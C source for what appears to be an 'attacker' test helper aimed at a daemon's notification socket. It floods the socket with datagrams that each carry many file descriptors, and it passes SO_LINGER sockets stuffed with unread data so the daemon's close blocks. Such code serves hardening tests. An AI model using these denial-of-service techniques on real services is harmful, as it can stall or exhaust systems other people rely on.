#include "attacker.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int say(char **arguments) {
    if (!arguments[0] || !arguments[1]) return 64;
    int fd = try_connect(arguments[0], SOCK_DGRAM);
    bool sent = fd >= 0 && send(fd, arguments[1], strlen(arguments[1]), 0) >= 0;
    printf(sent ? "sent\n" : "refused: %s\n", strerror(errno));
    return 0;
}

int notify_flood(char **arguments) {
    if (!arguments[0] || !arguments[1] || !arguments[2]) return 64;
    int64_t end = now_usec() + number(arguments[1]) * 1000000;
    long many = number(arguments[2]);
    if (many > 253) return 64;
    int fd = try_connect(arguments[0], SOCK_DGRAM | SOCK_NONBLOCK);
    if (fd < 0) {
        printf("refused: %s\n", strerror(errno));
        sleep_until(end);
        return 0;
    }
    int descriptors[253];
    for (long i = 0; i < many; i++) {
        descriptors[i] = open("/dev/null", O_RDONLY | O_CLOEXEC);
        if (descriptors[i] < 0) fail("/dev/null");
    }
    static const char text[] = "STATUS=flood";
    unsigned long long sent = 0, refused = 0;
    while (now_usec() < end) {
        if (send_descriptors(fd, text, sizeof text - 1, descriptors, (int)many) >= 0) {
            sent++;
        } else {
            refused++;
            usleep(20);
        }
    }
    printf("sent %llu datagrams, %llu refused\n", sent, refused);
    return 0;
}

// A TCP socket whose close(2) waits so many seconds: it has data that its peer does not take.
static int lingering(int seconds) {
    int server = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    int small = 4096;
    setsockopt(server, SOL_SOCKET, SO_RCVBUF, &small, sizeof small);
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    socklen_t size = sizeof address;
    if (bind(server, (struct sockaddr *)&address, size) || listen(server, 1)
        || getsockname(server, (struct sockaddr *)&address, &size))
        fail("listen");
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (connect(fd, (struct sockaddr *)&address, size)) fail("connect");
    // Accepted and never read; it lasts as long as this process.
    if (accept4(server, NULL, NULL, SOCK_CLOEXEC) < 0) fail("accept");
    close(server);
    fcntl(fd, F_SETFL, O_NONBLOCK);
    static char bytes[1 << 16];
    while (write(fd, bytes, sizeof bytes) > 0) {}
    // Without it a close does not wait.
    fcntl(fd, F_SETFL, 0);
    struct linger span = {1, seconds};
    if (setsockopt(fd, SOL_SOCKET, SO_LINGER, &span, sizeof span)) fail("SO_LINGER");
    return fd;
}

int linger(char **arguments) {
    for (int i = 0; i < 4; i++)
        if (!arguments[i]) return 64;
    bool is_datagram = !strcmp(arguments[1], "dgram");
    long times = number(arguments[2]), seconds = number(arguments[3]);
    // A blank is no message yet; the descriptor comes with it.
    const char *text = arguments[4] ? arguments[4] : is_datagram ? "STATUS=x" : " ";
    int fd = try_connect(arguments[0], is_datagram ? SOCK_DGRAM : SOCK_STREAM);
    if (fd < 0) {
        printf("refused: %s\n", strerror(errno));
        return 0;
    }
    for (long i = 0; i < times; i++) {
        int trap = lingering((int)seconds);
        ssize_t sent = send_descriptors(fd, text, strlen(text), &trap, 1);
        printf(sent > 0 ? "passed\n" : "refused: %s\n", strerror(errno));
        // The daemon's copy has to be the last one: this one is closed without a wait, since another one is there still.
        if (sent <= 0) {
            struct linger none = {0, 0};
            setsockopt(trap, SOL_SOCKET, SO_LINGER, &none, sizeof none);
        }
        close(trap);
        usleep(200000);
    }
    sleep_until(now_usec() + (seconds + 1) * 1000000);
    return 0;
}
